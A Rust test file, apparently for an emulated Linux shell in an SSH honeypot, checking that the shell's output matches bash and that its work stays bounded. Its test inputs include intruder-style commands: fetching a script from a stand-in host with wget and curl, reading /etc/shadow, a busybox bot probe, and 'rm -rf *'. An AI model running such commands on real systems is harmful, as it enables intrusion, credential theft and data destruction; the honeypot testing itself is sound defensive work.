use proptest::prelude::*;

use super::*;
use crate::net::Interface;
use crate::persona::tests::facts;

fn shell(user: &str) -> Shell {
    let login = Login {
        user: user.to_owned(),
        source: "198.51.100.9:40000".parse().expect("well formed"),
        destination: "192.0.2.7:22".parse().expect("well formed"),
        at: now(),
        network: Network {
            interfaces: vec![Interface {
                name: "eth0".to_owned(),
                address: "192.0.2.7".parse().expect("well formed"),
                prefix: 24,
                mac: "00:25:90:01:02:03".to_owned(),
            }],
            gateway: "192.0.2.1".parse().ok(),
        },
    };
    Shell::new(Arc::new(facts(7)), login)
}

fn now() -> OffsetDateTime {
    OffsetDateTime::from_unix_timestamp(1_790_000_000).expect("in range")
}

fn run(shell: &mut Shell, line: &str) -> String {
    String::from_utf8_lossy(&shell.execute(line.as_bytes(), now()).all()).into_owned()
}

#[test]
fn lines_give_what_a_shell_gives() {
    // Each line in a session of its own: line, what is printed, status.
    for (line, printed, status) in [
        ("", "", 0),
        ("   # nothing", "", 0),
        ("echo a  'b  c' \"d $USER\" \\$x", "a b  c d root $x\n", 0),
        ("echo -n x; echo y", "xy\n", 0),
        ("echo -e '\\x6b\\x61\\n\\101'", "ka\nA\n", 0),
        ("printf '%s-%d\\n' a 5", "a-5\n", 0),
        ("true && echo yes || echo no", "yes\n", 0),
        ("false && echo yes || echo no", "no\n", 0),
        ("false; echo $?", "1\n", 0),
        ("nope; echo $?", "-bash: nope: command not found\n127\n", 0),
        ("nope", "-bash: nope: command not found\n", 127),
        (
            "/bin/nope",
            "-bash: /bin/nope: No such file or directory\n",
            127,
        ),
        (
            "/etc/passwd",
            "-bash: /etc/passwd: Permission denied\n",
            126,
        ),
        (
            "echo a |",
            "-bash: syntax error near unexpected token `newline'\n",
            2,
        ),
        ("; x", "-bash: syntax error near unexpected token `;'\n", 2),
        (
            "echo 'a",
            "-bash: unexpected EOF while looking for matching `''\n",
            2,
        ),
        ("A=1; echo $A${A}b", "11b\n", 0),
        ("export X='a b'; echo \"$X\" $X", "a b a b\n", 0),
        ("echo $(echo a; echo b) `whoami`", "a b root\n", 0),
        ("pwd; cd /tmp; pwd; cd -; pwd", "/root\n/tmp\n/root\n", 0),
        (
            "cd /nope",
            "-bash: cd: /nope: No such file or directory\n",
            1,
        ),
        (
            "cd /etc/passwd",
            "-bash: cd: /etc/passwd: Not a directory\n",
            1,
        ),
        (
            "whoami; id",
            "root\nuid=0(root) gid=0(root) groups=0(root)\n",
            0,
        ),
        ("hostname; cat /etc/hostname", "web-7\nweb-7\n", 0),
        (
            "echo hi > /tmp/x; echo ho >> /tmp/x; cat /tmp/x | wc -l",
            "2\n",
            0,
        ),
        ("echo hi >/proc/x", "-bash: /proc/x: Permission denied\n", 1),
        ("cat < /etc/hostname", "web-7\n", 0),
        ("nope 2>/dev/null", "", 127),
        (
            "nope > /tmp/e 2>&1; cat /tmp/e",
            "-bash: nope: command not found\n",
            0,
        ),
        ("cat /nope", "cat: /nope: No such file or directory\n", 1),
        ("cat /tmp", "cat: /tmp: Is a directory\n", 1),
        (
            "ls /nope",
            "ls: cannot access '/nope': No such file or directory\n",
            2,
        ),
        (
            "cd /tmp; mkdir -p a/b; touch a/c; ls a; rm -rf a; ls",
            "b  c\n",
            0,
        ),
        (
            "mkdir /tmp",
            "mkdir: cannot create directory '/tmp': File exists\n",
            1,
        ),
        ("rm /tmp", "rm: cannot remove '/tmp': Is a directory\n", 1),
        (
            "cd /tmp; echo 1 > a; cp a b; mv b c; cat c; ls | wc -l",
            "1\n2\n",
            0,
        ),
        (
            "cd /tmp; echo 'echo run' > s; ./s; chmod +x s; ./s",
            "-bash: ./s: Permission denied\nrun\n",
            0,
        ),
        ("echo 'id -u' | sh", "0\n", 0),
        ("sh -c 'echo $USER'", "root\n", 0),
        (
            "cat /etc/passwd | grep ^root | cut -d: -f7",
            "/bin/bash\n",
            0,
        ),
        (
            "grep -c bash /etc/passwd > /dev/null && echo found",
            "found\n",
            0,
        ),
        (
            "head -n 1 /etc/passwd",
            "root:x:0:0:root:/root:/bin/bash\n",
            0,
        ),
        ("echo b a c | tr ' ' '\\n' | sort | head -1", "a\n", 0),
        ("echo one two | awk '{print $2}'", "two\n", 0),
        ("echo aGk= | base64 -d", "hi", 0),
        ("which ls nope", "/usr/bin/ls\n", 1),
        ("busybox ECCHI", "ECCHI: applet not found\n", 127),
        ("/bin/busybox echo x", "x\n", 0),
        ("sudo whoami", "root\n", 0),
        (
            "ls -d /tmp/*; echo /et*",
            "ls: cannot access '/tmp/*': No such file or directory\n/etc\n",
            0,
        ),
        ("wget -q http://203.0.113.5/x.sh", "", 4),
        (
            "curl http://evil.example/x",
            "curl: (6) Could not resolve host: evil.example\n",
            6,
        ),
        ("[ -f /etc/passwd ] && echo yes", "yes\n", 0),
        ("test 3 -gt 4", "", 1),
        ("hostname -I", "192.0.2.7 \n", 0),
        ("history | tail -1", "    1  history | tail -1\n", 0),
        ("date +%F", "2026-09-21\n", 0),
        ("dd if=/bin/ls bs=4 count=1 2>/dev/null", "\u{7f}ELF", 0),
    ] {
        let mut shell = shell("root");
        assert_eq!(run(&mut shell, line), printed, "{line}");
        assert_eq!(shell.status(), status, "{line}");
    }
}

#[test]
fn commands_agree_with_each_other() {
    let mut shell = shell("root");
    let uname = run(&mut shell, "uname -a");
    let kernel = run(&mut shell, "uname -r");
    assert!(uname.contains(kernel.trim()));
    assert!(run(&mut shell, "cat /proc/version").contains(kernel.trim()));
    let cores = run(&mut shell, "nproc");
    assert_eq!(run(&mut shell, "grep -c processor /proc/cpuinfo"), cores);
    assert_eq!(
        run(&mut shell, "cat /proc/cpuinfo | grep name | wc -l"),
        cores
    );
    let total = run(&mut shell, "free | grep Mem | awk '{print $2}'");
    assert!(run(&mut shell, "cat /proc/meminfo").contains(total.trim()));
    for text in [run(&mut shell, "ip a"), run(&mut shell, "ifconfig")] {
        assert!(text.contains("192.0.2.7") && text.contains("00:25:90:01:02:03"));
    }
    for text in [
        run(&mut shell, "netstat -tlnp"),
        run(&mut shell, "ss -tlnp"),
    ] {
        assert!(
            text.contains("0.0.0.0:22") && !text.contains(":80 "),
            "{text}"
        );
    }
    assert!(run(&mut shell, "ps aux").contains("sshd"));
    assert!(run(&mut shell, "w").contains("198.51.100.9"));
}

#[test]
fn an_ordinary_account_may_not_do_what_root_may() {
    let mut shell = shell("visitor");
    assert_eq!(run(&mut shell, "whoami; pwd"), "visitor\n/home/visitor\n");
    assert_eq!(
        run(&mut shell, "cat /etc/shadow"),
        "cat: /etc/shadow: Permission denied\n"
    );
    assert_eq!(
        run(&mut shell, "cd /root"),
        "-bash: cd: /root: Permission denied\n"
    );
    assert_eq!(
        run(&mut shell, "echo x > /etc/x"),
        "-bash: /etc/x: Permission denied\n"
    );
    assert!(run(&mut shell, "cat /etc/passwd").contains("visitor:x:"));
    assert_eq!(shell.prompt(), "visitor@web-7:~$ ");
}

#[test]
fn what_a_session_writes_has_a_bound() {
    let mut shell = shell("root");
    run(&mut shell, "cd /tmp; printf 'xxxxxxxxxxxxxxxx' > a");
    for _ in 0..40 {
        run(&mut shell, "cat a a > b; cat b b > a");
    }
    let size: usize = run(&mut shell, "wc -c < a")
        .trim()
        .parse()
        .expect("a number");
    assert!(size <= 1024 * 1024, "{size}");
}

#[test]
fn nothing_nests_or_grows_without_end() {
    let mut shell = shell("root");
    run(&mut shell, "cd /tmp; echo './s; ./s' > s; chmod +x s; ./s");
    run(&mut shell, "X=aaaaaaaaaaaaaaaa");
    for _ in 0..64 {
        run(&mut shell, "X=$X$X$X$X");
    }
    assert!(run(&mut shell, "echo $X").len() <= MAX_VALUE + 1);
    let deep = format!("{}echo x{}", "echo $(".repeat(500), ")".repeat(500));
    run(&mut shell, &deep);
    run(&mut shell, &"sudo ".repeat(500));
    run(&mut shell, &";".repeat(4000));
    run(&mut shell, &"a;".repeat(4000));
    assert!(run(&mut shell, "find / ; find /; find /").len() <= MAX_OUTPUT);
}

/// A shell with a file of 900 KiB that repeats `text`, and one that calls it.
fn with_file(text: &str) -> Shell {
    let mut shell = shell("root");
    let actor = shell.actor();
    for (path, bytes) in [
        ("/tmp/f", text.repeat(900 * 1024 / text.len())),
        ("/tmp/calls", "sh /tmp/f;".repeat(100)),
    ] {
        shell
            .files
            .write("/", path, bytes.as_bytes(), false, actor)
            .expect("there is room");
    }
    shell.execute(b"cd /tmp", now());
    shell
}

#[test]
fn a_line_that_would_do_too_much_is_given_up() {
    let many = |text: &str, count: usize| text.repeat(count);
    let value = many("a ", MAX_VALUE / 2);
    for (file, line) in [
        ("x", format!("A='{value}'; echo {}", many("$A", 1500))),
        ("x", many("cat < f;", 100)),
        ("x", format!("cat {}< f", many("< f ", 1000))),
        ("x", format!("cp {}/tmp", many("f ", 1000))),
        ("x", many("grep x f;", 100)),
        ("x\n", "sort f".to_owned()),
        ("x\n", format!("sed s/x/{}/ f", many("y", 4000))),
        ("\n", format!("grep '{}' f", many("x|", 1500))),
        ("\n", "awk '{print $0,$0,$0,$0,$0,$0,$0}' f".to_owned()),
        (",", format!("cut -d, -f{}1 f", many("1,", 1500))),
        ("a ", "sh f".to_owned()),
        ("true;", "sh calls".to_owned()),
        ("x", format!("mkdir -p {}", many("a/", 1000))),
        ("x", format!("ls {}", many("/ ", 1000))),
        ("x", format!("echo {}", many("/z* ", 1000))),
        ("x", many("cat /etc/shadow;", 100)),
        (
            "x",
            format!(
                "A={}; {}",
                many("*a", 2000),
                many("find / -name \"$A\"b;", 60)
            ),
        ),
    ] {
        let mut shell = with_file(file);
        shell.execute(line.as_bytes(), now());
        let begin: String = line.chars().take(60).collect();
        assert!(shell.budget.is_spent(), "{begin}: {}", shell.budget.left());
        assert_ne!(shell.status(), 0, "{begin}");
        // It is the line that has failed, and not the session.
        assert_eq!(run(&mut shell, "echo on"), "on\n", "{begin}");
    }
}

#[test]
fn what_a_person_does_on_a_line_is_far_from_too_much() {
    for line in [
        "cat /proc/cpuinfo | grep name | wc -l; cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}'; free -m | grep Mem; ls -lh $(which ls); crontab -l; w; uname -m; top; uname; uname -a; whoami; lscpu | grep Model",
        "cat /etc/passwd /etc/shadow; ls -la /etc /root /home /tmp; ps aux; netstat -tlnp; find / -name '*.conf'; df -h",
        "for i in 1 2 3; do echo $i; done; cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; rm -rf *; history",
        "sort f | uniq -c | head; wc -l f; cp f g; chmod 755 g; base64 f | base64 -d | tail -1",
    ] {
        let mut shell = with_file("x");
        let short = "one line\n".repeat(2000);
        let actor = shell.actor();
        shell
            .files
            .write("/tmp", "f", short.as_bytes(), false, actor)
            .expect("there is room");
        shell.execute(line.as_bytes(), now());
        assert!(
            shell.budget.left() > MAX_WORK / 2,
            "{line}: {}",
            shell.budget.left()
        );
    }
}

#[test]
fn a_word_expands_to_no_more_words_than_a_line_may_have() {
    let mut shell = shell("root");
    shell.set("A", "a ".repeat(MAX_VALUE / 2));
    let script = grammar::parse(&"$A".repeat(100)).expect("well formed");
    let mut words = Vec::with_capacity(MAX_WORDS);
    let room = words.capacity();
    shell.expand(&script[0].commands[0].words[0], &mut words);
    assert_eq!(words.len(), MAX_WORDS);
    // It has not been more for a moment, either.
    assert!(words.capacity() <= 2 * room, "{}", words.capacity());
}

proptest! {
    #[test]
    fn no_line_makes_it_panic(line in "[ -~\\n]{0,80}") {
        shell("root").execute(line.as_bytes(), now());
    }

    #[test]
    fn no_bytes_make_it_panic(line: Vec<u8>) {
        shell("root").execute(&line, now());
    }

    #[test]
    fn no_command_line_makes_a_command_panic(
        name in proptest::sample::select(
            crate::persona::PROGRAMS.iter().map(|(_, name)| *name).collect::<Vec<_>>()
        ),
        args in "[ -~]{0,60}",
        input in "[ -~\\n]{0,40}",
    ) {
        shell("root").execute(format!("echo '{input}' | {name} {args}").as_bytes(), now());
    }
}
